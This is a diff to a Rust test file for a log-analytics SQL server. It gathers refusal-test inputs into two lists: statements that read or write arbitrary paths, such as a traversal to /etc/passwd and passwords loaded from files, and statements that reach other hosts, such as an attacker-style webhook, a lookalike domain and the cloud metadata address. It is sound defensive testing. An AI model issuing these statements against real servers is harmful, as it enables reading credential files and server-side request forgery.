@@ -649,6 +649,45 @@ fn names_and_values_are_only_names_and_values() {
     assert_eq!(root.number("SELECT count(*) FROM logweir.roles WHERE admin"), 1);
 }
 
+/// Statements that would read or write PATH.
+pub const READING: &[&str] = &[
+    "SELECT * FROM 'PATH'",
+    "SELECT * FROM read_log('PATH', format => 'raw')",
+    "IMPORT 'PATH' INTO lines",
+    "PREVIEW (connector = 'file', path = 'PATH')",
+    "CREATE TABLE t WITH (connector = 'file', path = 'PATH') FORMAT RAW",
+    "CREATE SOURCE s INTO lines WITH (connector = 'file', path = 'PATH')",
+    "CREATE TABLE t WITH (connector = 'spool', path = 'PATH') FORMAT RAW",
+    "CREATE TABLE t WITH (connector = 'unix', path = 'PATH') FORMAT RAW",
+    "CREATE TABLE t WITH (connector = 'tcp', address = '127.0.0.1:0', tls_cert = 'PATH', tls_key = 'PATH') FORMAT RAW",
+    "CREATE TABLE t WITH (connector = 'datagen', scenario = 'PATH') FORMAT COMBINED",
+    "CREATE TABLE t WITH (archive = 'PATH') FORMAT RAW",
+    "CREATE TABLE t FORMAT GROK (pattern = '%{X:x}', patterns_dir = 'PATH')",
+    "CREATE TABLE t WITH (connector = 'kafka', brokers = 'good.example.org:1', topic = 't', \
+     kafka.ssl.ca.location = 'PATH') FORMAT RAW",
+    "CREATE TABLE t WITH (connector = 'kafka', brokers = 'good.example.org:1', topic = 't', \
+     kafka.sasl.password = '${FILE:PATH}') FORMAT RAW",
+    "CREATE SINK s FROM lines WITH (connector = 'file', path = 'PATH') FORMAT PLAIN ENCODE JSON",
+    "CREATE NOTIFIER n WITH (type = 'email', to = 'a@b.c', host = 'good.example.org', ca_file = 'PATH')",
+    "CREATE NOTIFIER n WITH (type = 'webhook', url = 'http://good.example.org', secret = '${FILE:PATH}')",
+    "CREATE EXTERNAL TABLE t STORED AS CSV LOCATION 'PATH'",
+    "CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION 'file://PATH'",
+    "COPY (SELECT 1 AS x) TO 'PATH'",
+    "CREATE ROLE r PASSWORD '${FILE:PATH}'",
+];
+
+/// Statements that would reach other machines than good.example.org.
+pub const REACHING: &[&str] = &[
+    "CREATE NOTIFIER n WITH (type = 'webhook', url = 'http://evil.example.org/')",
+    "CREATE NOTIFIER n WITH (type = 'alertmanager', url = 'http://good.example.org.evil.example/')",
+    "CREATE NOTIFIER n WITH (type = 'email', to = 'a@b.c', host = 'evil.example.org')",
+    "CREATE SINK s FROM lines WITH (connector = 'http', url = 'http://127.0.0.1:1/') FORMAT PLAIN ENCODE JSON",
+    "CREATE TABLE t WITH (connector = 'http_check', url = 'http://good.example.org/ http://169.254.169.254/') FORMAT JSON",
+    "CREATE TABLE t WITH (connector = 'kafka', brokers = 'good.example.org:1, evil:1', topic = 't') FORMAT RAW",
+    "CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION 's3://bucket/x'",
+    "COPY (SELECT 1 AS x) TO 's3://bucket/x'",
+];
+
 #[test]
 fn paths_and_machines_are_bounded_for_administrators_too() {
     let mut server = Server::prepare();
@@ -681,46 +720,13 @@ fn paths_and_machines_are_bounded_for_administrators_too() {
         format!("{allowed}x/file.log"),
         "../../../../../../../../../etc/passwd".to_string(),
     ] {
-        for statement in [
-            "SELECT * FROM 'PATH'",
-            "SELECT * FROM read_log('PATH', format => 'raw')",
-            "IMPORT 'PATH' INTO lines",
-            "PREVIEW (connector = 'file', path = 'PATH')",
-            "CREATE TABLE t WITH (connector = 'file', path = 'PATH') FORMAT RAW",
-            "CREATE SOURCE s INTO lines WITH (connector = 'file', path = 'PATH')",
-            "CREATE TABLE t WITH (connector = 'spool', path = 'PATH') FORMAT RAW",
-            "CREATE TABLE t WITH (connector = 'unix', path = 'PATH') FORMAT RAW",
-            "CREATE TABLE t WITH (connector = 'tcp', address = '127.0.0.1:0', tls_cert = 'PATH', tls_key = 'PATH') FORMAT RAW",
-            "CREATE TABLE t WITH (connector = 'datagen', scenario = 'PATH') FORMAT COMBINED",
-            "CREATE TABLE t WITH (archive = 'PATH') FORMAT RAW",
-            "CREATE TABLE t FORMAT GROK (pattern = '%{X:x}', patterns_dir = 'PATH')",
-            "CREATE TABLE t WITH (connector = 'kafka', brokers = 'good.example.org:1', topic = 't', \
-             kafka.ssl.ca.location = 'PATH') FORMAT RAW",
-            "CREATE TABLE t WITH (connector = 'kafka', brokers = 'good.example.org:1', topic = 't', \
-             kafka.sasl.password = '${FILE:PATH}') FORMAT RAW",
-            "CREATE SINK s FROM lines WITH (connector = 'file', path = 'PATH') FORMAT PLAIN ENCODE JSON",
-            "CREATE NOTIFIER n WITH (type = 'email', to = 'a@b.c', host = 'good.example.org', ca_file = 'PATH')",
-            "CREATE NOTIFIER n WITH (type = 'webhook', url = 'http://good.example.org', secret = '${FILE:PATH}')",
-            "CREATE EXTERNAL TABLE t STORED AS CSV LOCATION 'PATH'",
-            "CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION 'file://PATH'",
-            "COPY (SELECT 1 AS x) TO 'PATH'",
-            "CREATE ROLE r PASSWORD '${FILE:PATH}'",
-        ] {
+        for statement in READING {
             let statement = statement.replace("PATH", &path);
             let refused = client.attempt(&statement).err().unwrap_or_else(|| panic!("not refused: {statement}"));
             assert_eq!(refused.code, "42501", "{statement}: {refused:?}");
         }
     }
-    for statement in [
-        "CREATE NOTIFIER n WITH (type = 'webhook', url = 'http://evil.example.org/')",
-        "CREATE NOTIFIER n WITH (type = 'alertmanager', url = 'http://good.example.org.evil.example/')",
-        "CREATE NOTIFIER n WITH (type = 'email', to = 'a@b.c', host = 'evil.example.org')",
-        "CREATE SINK s FROM lines WITH (connector = 'http', url = 'http://127.0.0.1:1/') FORMAT PLAIN ENCODE JSON",
-        "CREATE TABLE t WITH (connector = 'http_check', url = 'http://good.example.org/ http://169.254.169.254/') FORMAT JSON",
-        "CREATE TABLE t WITH (connector = 'kafka', brokers = 'good.example.org:1, evil:1', topic = 't') FORMAT RAW",
-        "CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION 's3://bucket/x'",
-        "COPY (SELECT 1 AS x) TO 's3://bucket/x'",
-    ] {
+    for statement in REACHING {
         let refused = client.attempt(statement).err().unwrap_or_else(|| panic!("not refused: {statement}"));
         assert_eq!(refused.code, "42501", "{statement}: {refused:?}");
     }
